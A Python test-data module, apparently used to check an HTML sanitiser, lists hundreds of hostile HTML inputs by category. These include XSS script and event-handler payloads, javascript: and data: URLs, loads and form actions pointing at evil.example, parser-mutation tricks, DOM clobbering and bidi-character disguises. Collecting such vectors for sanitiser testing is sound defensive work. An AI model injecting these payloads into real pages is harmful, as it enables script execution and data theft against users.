# ruff: noqa: E501 - a vector is read best on its one line
"""Hostile HTML by category. Each is a way by which a program, a load or a disguise has got past a sanitiser."""

from __future__ import annotations

SCRIPTS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script\x00>alert(1)</script>",
    "<script\x0c>alert(1)</script>", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />",
    "<math><script>alert(1)</script></math>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<script>alert(1)", "<script type=module>import('//e')</script>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>", "<p onclick=alert(1)>x</p>", "<p/onclick=alert(1)>x", "<b onmouseover='alert(1)'>x",
    '<a href="/" onfocus=alert(1) autofocus>x</a>', "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x",
    "<p\nonclick\n=\nalert(1)>x", "<p style=animation-name:x onanimationstart=alert(1)>x", "<video><source onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<input autofocus onfocus=alert(1)>", "<select onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<q oncut=alert(1)>x</q>", "<p ONCLICK=alert(1)>x", "<td onclick=x>y",
    '<p title="x"onclick="alert(1)">x', "<image src=x onerror=alert(1)>", "<isindex onfocus=alert(1) autofocus>",
]
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript:javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=x>",
    "feed:javascript:alert(1)", "view-source:http://x.example", "file:///etc/passwd", "blob:https://x.example/1",
    "filesystem:https://x.example/1", "ftp://x.example/", "jar:http://x.example!/", "livescript:x", "mocha:x", "about:blank",
    "//evil.example/", "///evil.example/", "/\\evil.example/", "\\\\evil.example\\", "\\/evil.example", "/\t/evil.example/",
    "/\n/evil.example", "&#47;&#47;evil.example", "/&#92;evil.example", "http:evil.example", "http:/evil.example",
    "https:\\\\evil.example", "https://bank.example@evil.example/", "https://bank.example%40evil.example/",
    "https://a:b@evil.example", "http://", "https:///evil.example", "\u202ejavascript:alert(1)", "/\u202e/evil.example",
    "/\u200e/evil.example\\", "ja\u202evascript:alert(1)", "\u3000javascript:alert(1)", "relative/path", "?q=1", "..//evil.example",
    "x-javascript:alert(1)", "tel:javascript:alert(1)", "mailto:javascript:alert(1)", "javascript\uff1aalert(1)", "\uff4aavascript:x",
    "intent://x#Intent;end", "ms-officecmd:x", "sms:+1", "skype:x?call", "smb://evil.example/x", "search-ms:x", "https://evil\u3002example\\x",
]
LOADS = [
    "<img src=//evil.example/p.gif>", "<img srcset='//evil.example/p.gif 2x'>", "<picture><source srcset=//e.example/x></picture>",
    "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=//e.example>x</object>",
    "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<link rel=prefetch href=//e.example>",
    "<style>@import '//evil.example';</style>", "<p style='background:url(//evil.example)'>x</p>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<body background=//evil.example>", "<table background=//e.example><tr><td>x",
    "<td background=//evil.example>x", "<video poster=//evil.example>", "<audio src=//evil.example>", "<form action=//e.example><input name=p>",
    "<button formaction=javascript:alert(1)>x</button>", "<a ping=//evil.example href=/>x</a>", "<blockquote cite=//evil.example>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>", "<svg><image href=//evil.example /></svg>", "<svg><use href='data:,x#y'/></svg>", "<frameset><frame src=//e>",
    "<input type=image src=//evil.example>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<portal src=//evil.example>",
]
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'>", "<xmp><p title='</xmp><img src onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src onerror=alert(1)>'>", "<title><a title='</title><img src onerror=alert(1)>'>",
    "<noframes><p title='</noframes><img src onerror=alert(1)>'>", "<plaintext><img src onerror=alert(1)>", "<listing>&lt;img onerror=alert(1) src&gt;</listing>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img onerror=alert(1) src>'>",
    "<table><a href=/1>x<table><a href=/2>y", "<a><p><a><p><table><a>", "<b><i></b></i><p><b><p></b>", "<p><table><tr><p><td><p></table>",
    "<table><td><b><table><tr><b>x</table></b>", "<ul><li><p><ul><li></p></ul>", "<dl><dt><dd><dl><dt></dd>", "<pre>\n\n<b></pre>\n", "<p><h2><p></h2></p>",
    "<a href='/a'>1<a href='/b'>2", "<td>loose<tr><th>cells", "<caption><table><caption>", "<p title='&lt;img onerror=x&gt;'>x", "<abbr title='\"><img onerror=x>'>x",
    "<svg><style>&lt;img src onerror=alert(1)&gt;</style>", "<math href=javascript:alert(1)>x", "<annotation-xml encoding=text/html><p>x", "<svg><foreignObject><p onclick=x>y",
    "<div><section><div>x</div></section><p>y<div>z</div></p></div>", "<blockquote><div>a<table><div>b", "<b><div>x</b>y</div>", "<h1><h2>x</h1></h2>",
]
COMMENTS = [
    "<!--><img src onerror=alert(1)>-->", "<!--!><img src onerror=x>", "<!-- --!><img src onerror=alert(1)> -->", "<![CDATA[<img src onerror=x>]]>",
    "<?xml version='1.0'?><img src onerror=x>", "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;", "</ x><img onerror=alert(1) src>", "<//style=x><p>", "<%<img src onerror=x>%>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!<img onerror=x>", "<!-->", "<!--->", "<!--", "</", "<", "<a", "<a href", "<a href=", "<a href='", "&", "&#", "&#x;", "&#0;",
]
CLOBBERING = [
    "<a id=location>x</a>", "<a id=fn-1 name=body>x</a>", "<a id='fn-1 x'>x</a>", "<p id=main>x</p>", "<form id=document><input name=cookie></form>",
    "<a class=admin href=/>x</a>", "<a target=_blank href=https://e.example>x</a>", "<a href=https://e.example rel=opener>x</a>", "<p slot=x is=y contenteditable>z",
    "<p lang='x\" onclick=y'>z", "<p dir='rtl onclick'>x", "<td colspan=99999999>x", "<table><tr><td rowspan=-1>x", "<ol start=1e9><li>x", "<time datetime='<script>'>x",
    "<p data-x=y aria-label=z role=button tabindex=1 accesskey=x>w", "<a href=/ download=x.exe>y</a>", "<p hidden inert popover>x",
]
HIDING = [
    "\u202egpj.exe\u202c", "&#x202E;gpj.exe", "&#8238;x", "a\u202db\u202ac\u202bd", "\x00\x01\x02x", "\ud800x", "\udfff", "\ufeffx\ufffe\uffff", "x\u206a\u206fy",
    "<b>\u202e</b>", "<a href='/' title='\u202ex'>y</a>", "<a href='/&#x202e;x'>y</a>", "\u2028\u2029", "\x85\x9f", "&#x0;", "&#xD800;", "&#xFFFE;", "&#x80;",
]
LINKS = [f"<a href=\"{address}\">x</a>" for address in ADDRESSES] + [f"<a href='{a}' title=x>x" for a in ADDRESSES]
ALL = SCRIPTS + HANDLERS + LINKS + LOADS + MUTATIONS + COMMENTS + CLOBBERING + HIDING
